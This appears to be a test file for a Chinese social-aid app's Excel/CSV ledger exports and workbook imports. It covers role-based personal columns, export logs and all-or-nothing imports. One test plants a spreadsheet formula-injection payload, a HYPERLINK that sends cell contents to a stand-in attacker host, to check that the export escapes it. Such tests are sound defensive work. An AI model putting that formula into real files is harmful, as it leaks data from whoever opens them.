"""Ledgers out (Excel/CSV, personal columns, the export log) and in (templates, dry run,
all-or-nothing idempotent import, annotated workbook, donations)."""

from __future__ import annotations

import csv
import io

from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from app.accounts.models import MemberRole
from app.core.csvsafe import BOM
from app.donations.models import Donation
from app.needs.models import Household, Need, NeedState
from app.reports import exports
from app.reports.imports import FIELDS
from app.reports.models import ExportLog, ImportRecord
from tests.factories import (
    HouseholdFactory,
    MicroWishFactory,
    OrganisationFactory,
    UserFactory,
    member_of,
)
from tests.test_browser import resident_id

TIANHE = "440106"


def _xlsx(response) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_caseworker_household_ledger_has_personal_columns(client, auth, session):
    household = HouseholdFactory(notes='=HYPERLINK("http://evil.example/?"&A1)')
    caseworker = UserFactory(caseworker=True)
    auth.login(caseworker)
    response = client.get("/reports/exports/households.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    sheet = workbook.worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0][:3] == ["户编号", "区县", "人群类别"] and "身份证号码" in rows[0]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:L{len(rows)}"
    assert sheet.column_dimensions["D"].width == 18
    row = next(r for r in rows[1:] if r[0] == household.id)
    assert household.id_number in row and row[1] == "广州市天河区"
    assert row[-1].startswith("'=HYPERLINK")  # neutralised, stored as text
    assert sheet.cell(row=2, column=12).data_type == "s"
    log = session.scalar(select(ExportLog).order_by(ExportLog.id.desc()))
    assert (log.user_id, log.ledger, log.personal, log.rows) == (
        caseworker.id,
        "households",
        True,
        1,
    )


def test_supervisor_household_ledger_has_no_personal_columns(client, auth, session):
    household = HouseholdFactory()
    HouseholdFactory(district_code="440304")
    supervisor = UserFactory(verifier=True, area_code="440000")
    auth.login(supervisor)
    rows = _xlsx(client.get("/reports/exports/households.xlsx?area=440000"))
    assert len(rows) == 3
    flat = " ".join(str(v) for row in rows for v in row)
    for secret in (household.name, household.id_number, household.phone, household.address):
        assert secret not in flat
    assert "身份证号码" not in rows[0] and "姓名" not in rows[0]
    text = client.get("/reports/exports/households.csv?area=440100").get_data(as_text=True)
    assert household.name not in text and "身份证号" not in text
    assert session.scalar(select(ExportLog.personal).order_by(ExportLog.id.desc())) is False


def test_csv_streams_with_chinese_headers_and_local_times(client, auth, session):
    need = MicroWishFactory(title="-1+1 一个书包")
    auth.login(UserFactory(caseworker=True))
    response = client.get("/reports/exports/needs.csv")
    assert response.is_streamed and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert rows[0][:3] == ["需求编号", "户编号", "标题"]
    row = next(r for r in rows if r[0] == str(need.id))
    assert row[2] == "'-1+1 一个书包" and row[3] == "微心愿"
    local = need.created_at.astimezone(exports.CHINA).replace(tzinfo=None).isoformat()
    assert row[10] == local


def test_every_ledger_exports_in_both_formats(client, auth, session):
    auth.login(UserFactory(verifier=True, area_code="440100"))
    for name in exports.LEDGERS:
        for file_format in ("xlsx", "csv"):
            response = client.get(f"/reports/exports/{name}.{file_format}?area=440100&period=2026")
            assert response.status_code == 200, (name, file_format)
    assert client.get("/reports/exports/secrets.csv").status_code == 422
    assert client.get("/reports/exports/needs.csv?area=440300").status_code == 403
    assert session.scalar(select(func.count()).select_from(ExportLog)) == 12


def test_export_log_is_for_supervisors_of_the_area(client, auth, session):
    caseworker = UserFactory(caseworker=True)
    auth.login(caseworker)
    client.get("/reports/exports/needs.csv")
    assert client.get("/reports/exports/log").status_code == 403
    auth.logout()
    auth.login(UserFactory(verifier=True, area_code="440100"))
    page = client.get("/reports/exports/log").get_data(as_text=True)
    assert caseworker.display_name in page
    auth.logout()
    auth.login(UserFactory(verifier=True, area_code="440300"))  # Shenzhen
    assert caseworker.display_name not in client.get("/reports/exports/log").get_data(as_text=True)


def _households_workbook(rows: list[dict[str, object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    fields = FIELDS["households"]
    sheet.append([f.header for f in fields])
    for row in rows:
        sheet.append([row.get(f.key, "") for f in fields])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _row(n: int, **changes: object) -> dict[str, object]:
    return {
        "external_ref": f"TH-{n}",
        "name": f"导入户{n}",
        "id_number": resident_id(TIANHE, "19500101", n),
        "phone": f"1380013{n:04d}",
        "address": f"天河区导入路{n}号",
        "district": "天河区",
        "group": "困难老人",
        "need_score": 1,
        **changes,
    }


def _upload(client, content: bytes, kind: str = "households"):
    return client.post(
        f"/reports/imports/{kind}",
        data={"file": (io.BytesIO(content), f"{kind}.xlsx")},
        content_type="multipart/form-data",
    )


def test_household_import_dry_run_then_all_or_nothing(client, auth, session):
    caseworker = UserFactory(caseworker=True)
    auth.login(caseworker)
    template = client.get("/reports/imports/households/template.xlsx")
    assert _xlsx(template)[0][:3] == ["外部编号", "姓名", "身份证号"]
    bad = _households_workbook(
        [
            _row(1),
            _row(2, id_number="440106195001010011"),  # wrong checksum
            _row(3, district="火星区", group="富人"),
        ]
    )
    response = _upload(client, bad)
    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert 'data-row="3"' in page and 'data-row="4"' in page and 'data-row="2"' not in page
    assert "身份证号" in page and "区县" in page and "人群类别" in page
    assert session.scalar(select(func.count()).select_from(Household)) == 0
    annotated = client.get(response.headers["Location"] + "/annotated.xlsx")
    sheet = load_workbook(io.BytesIO(annotated.data)).worksheets[0]
    assert sheet.cell(row=3, column=3).comment is not None  # the ID cell of file row 3
    assert sheet.cell(row=2, column=3).comment is None
    assert "身份证" in str(sheet.cell(row=3, column=sheet.max_column).value)
    # A batch with problems imports nothing, even when asked.
    client.post(response.headers["Location"] + "/commit")
    assert session.scalar(select(func.count()).select_from(Household)) == 0

    good = _households_workbook([_row(1), _row(2), _row(3)])
    response = _upload(client, good)
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert 'id="import-button"' in page
    client.post(response.headers["Location"] + "/commit")
    assert session.scalar(select(func.count()).select_from(Household)) == 3
    # The same file again: checked, imported, nothing new (the references are known).
    again = _upload(client, good)
    client.post(again.headers["Location"] + "/commit")
    assert session.scalar(select(func.count()).select_from(Household)) == 3
    assert "3" in client.get(again.headers["Location"]).get_data(as_text=True)
    assert session.scalar(select(func.count()).select_from(ImportRecord)) == 3
    # The dashboard counts the new households (the import refreshed Tianhe's figures).
    assert 'id="fig-households"><a href="/work/households">3<' in client.get("/reports/").get_data(
        as_text=True
    )


def test_need_import_links_to_imported_households(client, auth, session):
    caseworker = UserFactory(caseworker=True)
    auth.login(caseworker)
    response = _upload(client, _households_workbook([_row(7)]))
    client.post(response.headers["Location"] + "/commit")
    workbook = Workbook()
    sheet = workbook.active
    fields = FIELDS["needs"]
    sheet.append([f.header for f in fields])
    values = {
        "external_ref": "XY-1",
        "household_ref": "TH-7",
        "kind": "微心愿",
        "title": "一个新书包",
        "story": "孩子的书包已经破了，希望有一个结实的新书包。",
        "category": "教育助学",
        "item": "书包",
        "quantity": 1,
        "estimated_value_yuan": 150,
    }
    sheet.append([values.get(f.key, "") for f in fields])
    sheet.append(
        [{**values, "external_ref": "XY-2", "household_ref": "NOPE"}.get(f.key, "") for f in fields]
    )
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = _upload(client, buffer.getvalue(), "needs")
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert 'data-row="3"' in page and "户外部编号" in page
    assert session.scalar(select(func.count()).select_from(Need)) == 0
    sheet.delete_rows(3)
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = _upload(client, buffer.getvalue(), "needs")
    client.post(response.headers["Location"] + "/commit")
    need = session.scalar(select(Need))
    assert need.title == "一个新书包" and need.state is NeedState.DRAFT


def test_company_imports_its_donation_list(client, auth, session):
    company = member_of(OrganisationFactory(verified=True), MemberRole.ADMIN)
    auth.login(company)
    template = _xlsx(client.get("/reports/imports/donations/template.xlsx"))
    assert template[0][:4] == ["外部编号", "物品", "数量", "价值（元）"]
    assert client.get("/reports/imports/households/template.xlsx").status_code == 403
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["外部编号", "物品", "数量", "价值（元）", "区县"])
    sheet.append(["JZ-1", "大米", 20, 1200, "天河区"])
    sheet.append(["JZ-2", "食用油", 10, 600, "440106"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    for _ in range(2):
        response = _upload(client, buffer.getvalue(), "donations")
        client.post(response.headers["Location"] + "/commit")
    assert session.scalar(select(func.count()).select_from(Donation)) == 2


def test_import_refuses_what_is_not_a_workbook(client, auth, session):
    auth.login(UserFactory(caseworker=True))
    response = _upload(client, b"name,id\n")
    assert response.status_code == 422
    assert "Excel" in response.get_data(as_text=True)
    assert client.post("/reports/imports/households").status_code == 422
    auth.logout()
    auth.login(UserFactory())
    assert client.get("/reports/imports").status_code == 403
